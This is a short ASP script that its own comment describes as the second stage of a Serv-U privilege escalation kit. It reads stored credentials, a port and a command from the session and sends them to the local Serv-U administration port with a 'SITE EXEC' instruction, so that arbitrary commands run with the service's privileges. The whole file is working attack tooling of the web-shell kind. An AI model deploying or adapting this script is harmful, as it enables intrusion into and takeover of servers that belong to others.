<%
' Second stage of a Serv-U escalation kit: the account, password, port and command were stored in
' the session by the first page; this one only sends them to the local administration port.
Dim acct, secret, adminPort, line, http
acct = Session("acct")
secret = Session("secret")
adminPort = Session("port")
line = Session("line")
Set http = Server.CreateObject("MSXML2.ServerXMLHTTP")
http.open "GET", "http://127.0.0.1:" & adminPort & "/upadmin/s2", False, "", ""
http.send "USER " & acct & vbCrLf & "PASS " & secret & vbCrLf & "SITE EXEC " & line & vbCrLf & "QUIT"
Set Session("h") = http
%>
<p>sent</p>
